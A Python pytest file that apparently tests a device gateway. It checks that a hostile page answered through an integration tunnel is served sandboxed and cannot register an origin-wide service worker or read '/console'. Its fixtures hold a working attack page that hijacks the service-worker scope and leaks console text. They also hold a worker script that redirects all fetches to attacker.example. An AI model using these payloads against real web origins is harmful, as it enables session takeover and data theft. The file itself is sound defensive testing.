"""A tunnel's answer cannot attack the gateway's origin in a real browser (decisions.md H1): a page that tries to
register a service worker for the whole origin and to read `/console` does neither."""

from __future__ import annotations

import asyncio
import base64
import json

import httpx
import pytest
import websockets

from tests.relay_helpers import KEY_B64

pytestmark = pytest.mark.django_db(transaction=True)
DEVICE = "dev_sandbox_browser"
ATTACK = """<!doctype html><title>hook</title>
<script>
window.__ran = true;
navigator.serviceWorker.register("sw.js", {scope: "/"});
fetch("/console").then(r => r.text()).then(t => fetch("leak?" + encodeURIComponent(t.slice(0, 40))));
</script>"""
WORKER = "self.addEventListener('fetch', e => e.respondWith(fetch('https://attacker.example/')));"


async def tunnel(ws, seen: list) -> None:
    """The attacker's tunnel client: the page for the webhook URL, a worker script for anything below it."""
    async for text in ws:
        frame = json.loads(text)
        if frame.get("type") != "tunnel.request":
            continue
        seen.append(frame["path"])
        page = not frame["path"].endswith(("sw.js", "leak"))
        body = ATTACK if page else WORKER
        content_type = "text/html; charset=utf-8" if page else "text/javascript"
        await ws.send(
            json.dumps(
                {
                    "type": "tunnel.response",
                    "request_id": frame["request_id"],
                    "status": 200,
                    "headers": [
                        ["Content-Type", content_type],
                        ["Service-Worker-Allowed", "/"],
                        ["Content-Security-Policy", "script-src * 'unsafe-inline'"],
                    ],
                    "body_base64": base64.b64encode(body.encode()).decode(),
                }
            )
        )


async def test_a_hostile_webhook_answer_gets_no_service_worker_and_cannot_read_the_console(gateway_url, browser):
    async with httpx.AsyncClient(base_url=gateway_url, timeout=10) as http:
        token = (
            await http.post("/oauth/token", data={"grant_type": "client_credentials", "client_id": "attacker"})
        ).json()["access_token"]
        bearer = {"Authorization": f"Bearer {token}"}
        put = await http.put(
            f"/gateway/v1/devices/{DEVICE}/identity-key",
            json={"algorithm": "ed25519", "public_key": KEY_B64},
            headers=bearer,
        )
        assert put.status_code == 204
        route = (
            await http.post(
                "/gateway/v1/integrations/routes", json={"device_id": DEVICE, "interface_type": "http"}, headers=bearer
            )
        ).json()
        port = gateway_url.rsplit(":", 1)[1]
        ws = await websockets.connect(
            f"ws://127.0.0.1:{port}/gateway/v1/integrations/tunnel/connect?device_id={DEVICE}",
            additional_headers=bearer,
        )
        await ws.recv()
        await ws.send(json.dumps({"type": "tunnel.activate", "routes": [route["route"]["route_id"]]}))
        await ws.recv()
        seen: list[str] = []
        client = asyncio.ensure_future(tunnel(ws, seen))
        path = route["public_url"].removeprefix("http://localhost:8080")
        context = await browser.new_context()
        page = await context.new_page()
        try:
            response = await page.goto(gateway_url + path)
            assert response is not None and response.status == 200
            assert response.headers["content-security-policy"] == "sandbox; default-src 'none'"
            assert "service-worker-allowed" not in response.headers
            # The page's own script never ran, and the document has an opaque origin.
            assert await page.evaluate("window.__ran === undefined") is True
            assert await page.evaluate("self.origin") == "null"
            # Even script injected by the test cannot register a worker or read the console.
            worker = await page.evaluate(
                "(async () => { try { await navigator.serviceWorker.register('sw.js', {scope: '/'}); return 'ok' }"
                " catch (e) { return 'blocked: ' + e.name } })()"
            )
            console = await page.evaluate(
                "fetch('/console').then(r => r.text()).then(() => 'read', e => 'blocked: ' + e.name)"
            )
            assert worker.startswith("blocked") and console.startswith("blocked"), (worker, console)
            assert context.service_workers == []
            assert seen == [path]  # no worker script and no leak were ever fetched
        finally:
            await context.close()
            client.cancel()
            await ws.close()
